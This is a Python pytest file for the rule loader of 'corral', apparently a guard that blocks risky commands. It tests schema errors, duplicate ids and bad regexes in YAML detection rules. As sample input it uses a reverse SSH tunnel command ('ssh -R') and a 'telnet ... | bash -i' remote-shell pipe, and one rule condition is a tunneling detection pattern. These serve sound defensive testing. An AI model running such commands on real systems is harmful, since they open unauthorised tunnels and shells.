"""Rule files: schema errors, duplicate ids and bad conditions are load errors with file:line."""

from __future__ import annotations

from pathlib import Path

import pytest

from corral import Guard
from corral.rules.loader import load_rules
from corral.rules.registry import RULE_FILES, library_dir
from corral.util.yamlfile import SourceError

RULE = """rules:
  - id: {id}
    title: Test rule
    description: A rule used only by the loader tests, long enough.
    evasions: None that matter for a test rule.
    severity: high
    confidence: high
    status: stable
    category: tunnel
    attack: [T1572]
    when: {when}
    examples:
      match: ["ssh -R 1:h:2 x@y"]
      not_match: ["ls"]
"""


def library(tmp_path: Path, *bodies: str) -> Path:
    (tmp_path / "lists.yaml").write_text("lists:\n  things: [ssh]\n")
    for index, body in enumerate(bodies):
        (tmp_path / f"r{index}.yaml").write_text(body)
    return tmp_path


def load(tmp_path: Path, *bodies: str) -> None:
    folder = library(tmp_path, *bodies)
    load_rules(folder, files=[f"r{i}.yaml" for i in range(len(bodies))])


def test_packaged_library_loads_and_registry_is_complete() -> None:
    rules = load_rules()
    on_disk = {p.name for p in library_dir().glob("*.yaml")} - {"lists.yaml"}
    assert on_disk == set(RULE_FILES.values()), "every rule file must be in the registry"
    assert rules.rules


def test_valid_rule_loads(tmp_path: Path) -> None:
    load(
        tmp_path,
        RULE.format(id="CR-TST-001", when="{command: {program: ['@things'], option: [-R]}}"),
    )


def test_duplicate_id_names_both_places(tmp_path: Path) -> None:
    body = RULE.format(id="CR-TST-001", when="{kind: [exec]}")
    with pytest.raises(SourceError) as info:
        load(tmp_path, body, body)
    assert "duplicate rule id CR-TST-001" in str(info.value)
    assert "r0.yaml:2" in str(info.value)
    assert info.value.file.endswith("r1.yaml")


@pytest.mark.parametrize(
    ("rule_id", "when", "line", "words"),
    [
        ("CR-TST-1", "{kind: [exec]}", 2, "pattern"),
        ("CR-TST-001", "{command: {program: ['@nothing']}}", 11, "unknown list '@nothing'"),
        ("CR-TST-001", "{command: {arg: ['(unclosed']}}", 11, "invalid regular expression"),
        # only compiling finds this one: the check must not wait for the first action
        ("CR-TST-001", "{command: {arg: ['(?<=a+)b']}}", 11, "invalid regular expression"),
        ("CR-TST-001", "{comand: {program: [ssh]}}", 11, "unknown condition key 'comand'"),
        ("CR-TST-001", "{target: {port: ['http']}}", 11, "ports are integers"),
    ],
)
def test_bad_rules_point_at_the_line(
    tmp_path: Path, rule_id: str, when: str, line: int, words: str
) -> None:
    with pytest.raises(SourceError) as info:
        load(tmp_path, RULE.format(id=rule_id, when=when))
    assert words in str(info.value)
    assert info.value.line == line
    assert info.value.file.endswith("r0.yaml")


def test_missing_examples_is_an_error(tmp_path: Path) -> None:
    body = RULE.format(id="CR-TST-001", when="{kind: [exec]}").replace(
        '      not_match: ["ls"]\n', ""
    )
    with pytest.raises(SourceError, match="not_match"):
        load(tmp_path, body)


def test_all_of_two_programs_is_indexed_under_either(tmp_path: Path) -> None:
    """A rule needing two different programs must still be tried (regression: intersection)."""
    when = "{all: [{command: {program: [telnet]}}, {command: {program: [bash], option: [-i]}}]}"
    folder = library(tmp_path, RULE.format(id="CR-TST-002", when=when))
    rules = load_rules(folder, files=["r0.yaml"])
    decision = Guard("permissive", rules=rules).decide(
        {"kind": "exec", "command": "telnet h 1 | bash -i"}
    )
    assert "CR-TST-002" in {r.id for r in decision.rules}
